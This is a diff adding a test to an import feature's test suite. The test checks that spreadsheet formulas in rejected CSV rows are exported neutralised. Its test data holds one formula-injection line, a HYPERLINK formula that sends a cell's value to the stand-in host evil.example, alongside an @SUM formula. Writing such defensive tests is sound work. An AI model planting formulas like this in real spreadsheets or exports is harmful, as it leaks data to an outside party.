@@ -292,6 +292,21 @@ describe("suspects import: downloads, progress, audit", () => {
     ]);
   });
 
+  test("a rejected row holding a spreadsheet formula comes back defused in rejected.csv", async () => {
+    const p = testPlatform();
+    const s = await signIn(p, "agent");
+    const csv = '号码,类型,风险等级,备注\r\n=HYPERLINK("http://evil.example/?x="&A1;"点此"),,,@SUM(1+1)\r\n13800138000,phone,high,-2+3\r\n';
+    const res = await upload(s, "formulas.csv", new TextEncoder().encode(csv));
+    const id = Number(/\/imports\/(\d+)/.exec(res.headers.get("Location")!)![1]);
+    await whenSettled(p.deps, id);
+    const text = await (await s.request(`/imports/${id}/rejected.csv`)).text();
+    const row = text.split("\r\n")[1]!;
+    expect(row).toStartWith("2,");
+    expect(row).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1;""点此"")"`);
+    expect(row).toEndWith(",'@SUM(1+1)");
+    expect(text).not.toMatch(/(^|,)"?[=@]/m);
+  });
+
   test("progress is published on the event bus while the rows are recorded, then the end", async () => {
     const p = testPlatform();
     const s = await signIn(p, "agent");
